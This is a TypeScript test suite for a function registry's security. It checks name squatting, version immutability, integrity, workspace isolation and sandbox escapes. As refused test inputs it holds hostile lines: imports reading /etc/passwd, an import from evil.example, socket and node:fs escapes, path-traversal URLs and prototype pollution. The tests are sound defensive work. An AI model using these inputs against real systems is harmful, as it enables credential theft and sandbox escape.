import { env as bindings, exports } from "cloudflare:workers";
import { and, eq } from "drizzle-orm";
import { describe, expect, it } from "vitest";
import { unwrap } from "#blueprints/outcome";
import { registryVersions } from "#edge/db/tables/registry";
import { createResources } from "#edge/deploy/create";
import { leadBlueprint, testAccount } from "#edge/deploy/deploy.fixture";
import { deployResources } from "#edge/deploy/deploy";
import { getResource } from "#edge/deploy/get";
import type { Env } from "#edge/env";
import { createWorkspace, workspaceStub } from "#edge/gateway/directory";
import { compile } from "#edge/isolates/bundle";
import type { IsolateGrant } from "#edge/isolates/isolate";
import { runFunction } from "#edge/isolates/run";
import { install } from "#edge/registry/install";
import { publish } from "#edge/registry/publish";
import { searchRegistry } from "#edge/registry/search";
import { yank } from "#edge/registry/yank";

const env = bindings as unknown as Env;

/** An account with a live scoring function, and how it publishes and installs that. */
async function publisher(name: string) {
  const { services, actor } = await testAccount(name);
  const deploy = async (score = 90) => {
    const code = `export default async () => ({ score: ${score} });`;
    const { functions, ...rest } = leadBlueprint({ tests: [] }, code);
    // Other files count what a search for leads finds.
    const described = functions.map((one) => ({ ...one, description: "Answers with a number." }));
    const blueprint = { ...rest, functions: described, name: `leads-${score}` };
    const created = await createResources(services, actor, {
      blueprint,
      workspace: `${name}-${score}`,
    });
    await deployResources(services, actor, { blueprintId: created.blueprintId });
    return created.resources[0]?.id ?? "";
  };
  const resource = await deploy();
  const request = { resource, slug: `@${name}/tallier`, version: "1.0.0" };
  const send = (change: Partial<Parameters<typeof publish>[2]> = {}) =>
    publish(services, actor, { ...request, ...change });
  const take = (entry: string, integrity?: string) =>
    install(services, actor, {
      entry,
      workspace: `${name}-90`,
      alias: "taken",
      ...(integrity ? { integrity } : {}),
    });
  return { services, actor, deploy, send, take };
}

it.each([
  "@second-first/scorer",
  "@Squatted/scorer",
  "@squatted /scorer",
  "@squatted\u200B/scorer",
  "@squatteԁ/scorer",
  "@ｓquatted/scorer",
  "@squatted/../other/scorer",
  "@squatted/Scorer",
  "@squatted/scorer/x",
  "@squatted/scorеr",
  "@squatted/scorer@1.0.0",
  "@squatted/-scorer",
  "@squatted/",
  "squatted/scorer",
  "@@squatted/scorer",
  "@squatted/scorer\n",
  `@squatted/${"a".repeat(64)}`,
])(
  "nothing is published as %j by who is not called so, nor under a name that looks like another",
  async (slug) => {
    const name = `squatted-${Math.trunc(performance.now() * 1000)}`.slice(0, 30);
    const { send } = await publisher(name);
    await expect(send({ slug })).rejects.toMatchObject({
      code: expect.stringMatching(/^registry\.(bad-slug|not-owner)$/) as string,
    });
  },
);

it.each([
  "1.0.0 ",
  "01.0.0",
  "1.0.0-",
  "1.0",
  "^1.0.0",
  "1.0.0+other",
  "=1.0.0",
  "1.0.0\n",
  "１.0.0",
])("the version %j names none", async (version) => {
  const { send } = await publisher(`ver-${Buffer.from(version).toString("hex")}`.slice(0, 38));
  await expect(send({ version })).rejects.toMatchObject({ code: "registry.bad-version" });
});

it("a version that was published never gets other bytes, neither by another publication nor behind it", async () => {
  const { services, send, deploy, take } = await publisher("overwriter");
  const first = await send();
  const other = await deploy(10);
  await expect(send({ resource: other })).rejects.toMatchObject({
    code: "registry.version-exists",
  });
  // Whoever can write the database takes the version out and publishes it again.
  await services.db
    .delete(registryVersions)
    .where(and(eq(registryVersions.slug, first.slug), eq(registryVersions.version, "1.0.0")));
  const second = await send({ resource: other });
  expect(second.integrity).not.toBe(first.integrity);
  await expect(take(first.install, first.integrity)).rejects.toMatchObject({
    code: "registry.integrity-mismatch",
  });
  expect((await take(second.install, second.integrity)).version).toBe("1.0.0");
});

describe("a name that is easily taken for that of another publisher", () => {
  it.each([
    ["acme-labs", "acmelabs"],
    ["initech", "intiech"],
  ])("is refused: @%s, then @%s", async (name, other) => {
    await (await publisher(name)).send();
    const { send } = await publisher(other);
    await expect(send()).rejects.toMatchObject({
      code: "registry.lookalike",
      message: expect.stringContaining(`@${name}/tallier`) as string,
    });
    // Private, it misleads nobody; but it does not come out that way either.
    await send({ visibility: "private" });
    await expect(send({ version: "1.0.1" })).rejects.toMatchObject({ code: "registry.lookalike" });
  });

  it("is taken across the slash, too", async () => {
    await (await publisher("hubgit")).send({ slug: "@hubgit/issues" });
    await expect((await publisher("hub")).send({ slug: "@hub/git-issues" })).rejects.toMatchObject({
      code: "registry.lookalike",
    });
  });

  it("is not that of a series, nor a short one", async () => {
    for (const name of ["series-1", "series-2"]) {
      const published = await (await publisher(name)).send();
      expect(published.slug).toBe(`@${name}/tallier`);
    }
  });

  it("stays with whom it was first", async () => {
    const first = await publisher("firstling");
    await first.send();
    await expect((await publisher("firstlings")).send()).rejects.toMatchObject({ status: 409 });
    expect((await first.send({ version: "1.1.0" })).version).toBe("1.1.0");
  });

  it("under another account is shown with those that were there first", async () => {
    const first = await publisher("ledger-makers");
    const original = await first.send({ slug: "@ledger-makers/reconcile-books" });
    const { services, actor, send, take } = await publisher("quite-else");
    const copy = await send({ slug: "@quite-else/reconcile-bo0k" });
    expect([original.similarTo, copy.similarTo]).toEqual([undefined, [original.slug]]);
    const { hits } = await searchRegistry(services, actor, { query: "reconcile" });
    expect(Object.fromEntries(hits.map((hit) => [hit.slug, hit.similarTo]))).toMatchObject({
      [original.slug]: undefined,
      [copy.slug]: [original.slug],
    });
    expect((await take(copy.install)).similarTo).toEqual([original.slug]);
    expect((await take(original.install)).similarTo).toBeUndefined();
    const later = await first.send({ slug: original.slug, version: "1.1.0" });
    expect(later.similarTo).toBeUndefined();
  });
});

const yankable = async (name: string) => {
  const from = await publisher(name);
  const entry = await from.send();
  const request = { slug: entry.slug, version: entry.version };
  const set = (yanked: boolean) => yank(from.services, from.actor, { ...request, yanked });
  return { ...from, entry, set };
};
/** What the publisher or anyone finds, as references. */
const found = async ({ services, actor }: Awaited<ReturnType<typeof publisher>>, query: string) =>
  (await searchRegistry(services, actor, { query })).hits.map(({ reference }) => reference);

describe("a version that its publisher takes back", () => {
  it("is found and installed no more, under its number or as the latest", async () => {
    const from = await yankable("yanker");
    const other = await publisher("late-comer");
    await from.send({ version: "1.1.0" });
    await yank(from.services, from.actor, {
      slug: from.entry.slug,
      version: "1.1.0",
      yanked: true,
    });
    expect(await found(other, "yanker")).toEqual(["@yanker/tallier@1.0.0"]);
    expect((await other.take(from.entry.slug)).version).toBe("1.0.0");
    await expect(other.take("@yanker/tallier@1.1.0")).rejects.toMatchObject({
      code: "registry.yanked",
      fix: expect.stringContaining("@yanker/tallier@1.0.0") as string,
    });
    await from.set(true);
    expect(await found(other, "yanker")).toEqual([]);
    await expect(other.take(from.entry.slug)).rejects.toMatchObject({ status: 404 });
    await from.set(false);
    expect(await found(other, "yanker")).toEqual(["@yanker/tallier@1.0.0"]);
  });

  it("runs on where it is installed, can be deployed there again, and get says so", async () => {
    const from = await yankable("taker-back");
    const other = await publisher("holder-on");
    const { resource, workspace } = await other.take(from.entry.install);
    const getIt = () =>
      getResource(other.services, other.actor, { kind: "function", id: resource.id });
    expect((await getIt())["from"]).not.toHaveProperty("yankedAt");
    await from.set(true);
    expect((await getIt())["from"]).toMatchObject({ yankedAt: expect.any(Number) as number });
    const call = {
      actor: { kind: "system", workspaceId: workspace.id } as const,
      name: "taken",
      input: { employees: 1 },
    };
    const stub = workspaceStub(other.services.env, workspace.id);
    expect(unwrap(await stub.callFunction(call)).output).toEqual({ score: 90 });
    expect((await other.take(from.entry.install)).integrity).toBe(from.entry.integrity);
    const elsewhere = install(other.services, other.actor, {
      entry: from.entry.install,
      workspace: (
        await createWorkspace(other.services, other.actor, { slug: "held-new", name: "N" })
      ).slug,
    });
    await expect(elsewhere).rejects.toMatchObject({ code: "registry.yanked" });
  });

  it("keeps its bytes and its number", async () => {
    const from = await yankable("byte-keeper");
    await from.set(true);
    await expect(from.send({ resource: await from.deploy(10) })).rejects.toMatchObject({
      code: "registry.version-exists",
    });
    const url = `https://aerostack.test/registry/${from.entry.slug}/1.0.0`;
    expect(await (await exports.default.fetch(url)).json()).toMatchObject({
      integrity: from.entry.integrity,
    });
  });

  it("is taken back by nobody else", async () => {
    const from = await yankable("unyanked");
    const { services, actor } = await testAccount("foreign-yanker");
    const attempt = yank(services, actor, {
      slug: from.entry.slug,
      version: "1.0.0",
      yanked: true,
    });
    await expect(attempt).rejects.toMatchObject({ code: "registry.not-owner" });
    await expect(
      yank(from.services, from.actor, { slug: from.entry.slug, version: "9.9.9", yanked: true }),
    ).rejects.toMatchObject({ code: "registry.not-found" });
    expect(await found(from, "unyanked")).toEqual(["@unyanked/tallier@1.0.0"]);
  });
});

type Version = typeof registryVersions.$inferSelect;
it.each<[string, (row: Version) => Partial<Version>]>([
  ["egress", ({ definition }) => ({ definition: { ...definition, egress: ["*"] } })],
  [
    "secrets",
    ({ definition }) => ({
      definition: {
        ...definition,
        secrets: [{ name: "A", purpose: "", kind: "token", hosts: ["evil.example"] }],
      },
    }),
  ],
  ["description", ({ definition }) => ({ definition: { ...definition, description: "Scores." } })],
  [
    "source",
    ({ definition }) => ({
      definition: { ...definition, code: "export default () => 1" } as Version["definition"],
    }),
  ],
  [
    "compiled code",
    ({ compiled }) => ({
      compiled: { ...compiled!, modules: { "main.ts": "export default () => 1" } },
    }),
  ],
  ["missing code", () => ({ compiled: null })],
])("an entry whose %s changed where it is stored is not installed", async (what, change) => {
  const { services, send, take } = await publisher(`changed-${what.replaceAll(" ", "-")}`);
  const { install: entry, slug } = await send();
  const row = await services.db
    .select()
    .from(registryVersions)
    .where(eq(registryVersions.slug, slug))
    .get();
  await services.db
    .update(registryVersions)
    .set(change(row!))
    .where(eq(registryVersions.slug, slug));
  await expect(take(entry)).rejects.toMatchObject({ code: "registry.integrity-mismatch" });
});

it("an entry goes into no workspace of another account, whatever the id or slug", async () => {
  const { services, send } = await publisher("far-sharer");
  const { install: entry } = await send();
  const { actor: owner } = await testAccount("attacked");
  const { id } = await createWorkspace(services, owner, { slug: "attacked-work", name: "A" });
  const { actor } = await testAccount("far-intruder");
  for (const workspace of [
    "attacked-work",
    id,
    "ATTACKED-WORK",
    "../attacked-work",
    "attacked-work ",
  ]) {
    await expect(install(services, actor, { entry, workspace })).rejects.toMatchObject({
      status: expect.toSatisfy((status: number) => status === 404 || status === 400) as number,
    });
  }
  expect(unwrap(await workspaceStub(services.env, id).describe()).live).toEqual([]);
});

it.each([
  "@far-sharer/%2e%2e",
  "@far-sharer/..%2f..%2fapi",
  "@far-sharer/scorer/1.0.0%00",
  "@far-sharer/scorer/..",
  "@far-%73harer/scorer/latest/x",
  "@far-sharer/scorer/'--",
])("/registry/%s is nothing", async (path) => {
  const answer = await exports.default.fetch(`https://aerostack.test/registry/${path}`);
  expect([400, 404]).toContain(answer.status);
});

describe("code that reaches for files or other places", () => {
  it.each([
    'import x from "../../../etc/passwd";',
    'import x from "./other.ts";',
    'import "/etc/passwd";',
    'import x from "file:///etc/passwd";',
    'import x from "data:text/javascript,export default 1";',
    'import x from "https://evil.example/x.js";',
    'import x from "cloudflare:workers";',
    'import x from "workerd:unsafe";',
    'export * from "../secrets.ts";',
    'import * as x\nfrom "../x.ts";',
    'const x = await import("../x.ts");',
    'import{x}from"../x.ts";',
    'import/**/x/**/from/**/"../x.ts";',
    'const x = await import(["..", "x.ts"].join("/"));',
    'const x = await import(["cloudflare", "sockets"].join(":")).then(async (it) => it.connect("127.0.0.1:1").opened);',
    'const { readFileSync } = await import("node:fs"); readFileSync("/etc/passwd", "utf8");',
  ])("does not run: %s", async (line) => {
    const ran = (async () => {
      const code = await compile(
        `${line}\nexport default async () => typeof x === "undefined" ? "reached" : String(x);`,
      );
      return runFunction(env, { code, grant: grantOf("wks_reach"), input: null });
    })();
    await expect(ran).rejects.toMatchObject({ code: expect.stringMatching(/^code\./) as string });
  });

  it.each([
    'import{x}from"../x.ts";',
    'import/**/x/**/from/**/"../x.ts";',
    'import { "a b" as x } from\n"../x.ts";',
    'import x, * as y from "https://evil.example/x.js"; y;',
    ';import"/etc/passwd";',
    'export{x}from"../x.ts"; var x;',
    'export*from"../x.ts"; var x;',
    'export * as y from "cloudflare:workers"; var x;',
    'const x = await import(["..", "x.ts"].join("/"));',
    "const x = await import(`../x.ts`);",
    'const x = await import("node:" + "../x.ts");',
    'const x = `${await import("../x.ts")}`;',
    'const x = await import("\\x2e./x.ts");',
    'const x = await import("../x.ts", { with: { type: "json" } });',
    'const x = await import/**/("../x.ts");',
    'const x = await import.source("../x.ts");',
  ])("is refused before anything is stored: %s", async (line) => {
    const compiled = compile(`${line}\nexport default async () => String(x);`);
    await expect(compiled).rejects.toMatchObject({ code: "code.import" });
  });

  it.each([
    "const x = \"import y from '../x.ts'\";",
    '// import y from "../x.ts"\nconst x = 1;',
    'const x = /import("a")/;',
    'const x = { import: (name) => name, from: 1 }; x.import("../x.ts");',
    'class A { import(name) { return name; } static import = 2 } const x = new A().import("../x.ts");',
    "const x = import.meta;",
    'import { Buffer } from "node:buffer"; const x = Buffer.from("../x.ts");',
    'import type { y } from "../types.ts"; const x = 1;',
    'const x = await import("node:path");',
  ])("is not what only looks like it: %s", async (line) => {
    const source = `${line}\nexport { f as default }; const f = async () => String(x);`;
    expect((await compile(source)).mainModule).toBe("main.ts");
  });
});

const grantOf = (workspaceId: string): IsolateGrant => ({
  workspaceId,
  egress: [],
  secrets: [],
  mode: "live",
});

it("what code leaves behind is seen by no other workspace and not by the platform", async () => {
  const code = await compile(`export default () => {
    const found = [globalThis.left, ({}).left, [].left].map((one) => one ?? null);
    globalThis.left = Object.prototype.left = Array.prototype.left = "left";
    JSON.parse = () => { throw new Error("pwned"); };
    return { found };
  }`);
  const run = (workspaceId: string) =>
    runFunction(env, { code, grant: grantOf(workspaceId), input: null });
  expect((await run("wks_one")).output).toEqual({ found: [null, null, null] });
  expect((await run("wks_two")).output).toEqual({ found: [null, null, null] });
  expect([(globalThis as { left?: string }).left, ({} as { left?: string }).left]).toEqual([
    undefined,
    undefined,
  ]);
});
